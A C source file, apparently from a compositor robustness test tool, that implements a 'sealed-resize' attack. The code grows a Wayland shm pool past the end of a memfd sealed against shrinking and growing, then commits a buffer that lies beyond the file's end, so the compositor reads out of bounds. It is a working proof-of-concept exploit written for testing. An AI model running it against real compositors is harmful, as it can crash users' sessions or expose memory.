/*
 * hostile-client: attacks on a compositor's sealed-memfd fast path.
 *
 * libwayland decides once, at create_pool, that a memfd sealed against
 * shrinking cannot fault, and then guards no access to that pool. A resize
 * is not checked again: the pool may grow past the end of a file that,
 * sealed against growing too, never will.
 */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include <wayland-client.h>

#include "hostile.h"

/* The colour of the buffer past the end: 0xffc45a1c in XRGB. */
#define SEALED_PIXEL 0xffc45a1cu

/*
 * sealed-resize [FACTOR]: a memfd of one buffer sealed with F_SEAL_SHRINK
 * and F_SEAL_GROW, a pool of the file's size, wl_shm_pool.resize to FACTOR
 * (8) times that, a buffer in the new part, attach and commit.
 */
static int
attack_sealed_resize(struct hostile *hostile, int argc, char **argv)
{
	int64_t factor = 8;
	if (argc > 1 || (argc == 1 && !hostile_parse_int(argv[0], 2, 1024, &factor))) {
		return HOSTILE_EXIT_USAGE;
	}
	struct client_window window;
	int ret = hostile_window_create(hostile, &window);
	if (ret != 0) {
		return ret;
	}
	int memfd = hostile_memfd_create(hostile, HOSTILE_BUFFER_SIZE, SEALED_PIXEL);
	if (memfd < 0) {
		return HOSTILE_EXIT_FAILURE;
	}
	int fd = hostile_fd_open(HOSTILE_FD_SHRINK_SEALED, memfd);
	close(memfd);
	if (fd < 0) {
		return HOSTILE_EXIT_FAILURE;
	}
	struct wl_shm_pool *pool = wl_shm_create_pool(hostile->client.shm, fd, HOSTILE_BUFFER_SIZE);
	close(fd);
	hostile_print_created(pool);
	const int32_t new_size = (int32_t)factor * HOSTILE_BUFFER_SIZE;
	wl_shm_pool_resize(pool, new_size);
	printf("sealed the file at %d bytes (shrink, grow), resized the pool to %d\n",
		HOSTILE_BUFFER_SIZE, new_size);
	if (hostile_roundtrip(hostile) < 0) {
		return hostile_report_failure(hostile);
	}
	printf("resize accepted; showing a buffer past the end of the sealed file\n");
	struct wl_buffer *buffer = wl_shm_pool_create_buffer(pool, new_size - HOSTILE_BUFFER_SIZE,
		HOSTILE_WIDTH, HOSTILE_HEIGHT, HOSTILE_STRIDE, WL_SHM_FORMAT_XRGB8888);
	hostile_print_created(buffer);
	client_window_commit(&window, buffer);
	ret = hostile_window_wait_frame(hostile, &window);
	if (ret != 0 && ret != HOSTILE_EXIT_TIMEOUT) {
		return ret;
	}
	return hostile_finish(hostile);
}

const struct hostile_attack hostile_sealed_attacks[] = {
	{"sealed-resize", "[FACTOR]",
		"grow a pool over a shrink- and grow-sealed memfd FACTOR (8) times, show a "
		"buffer past the file's end",
		attack_sealed_resize},
	{NULL, NULL, NULL, NULL},
};
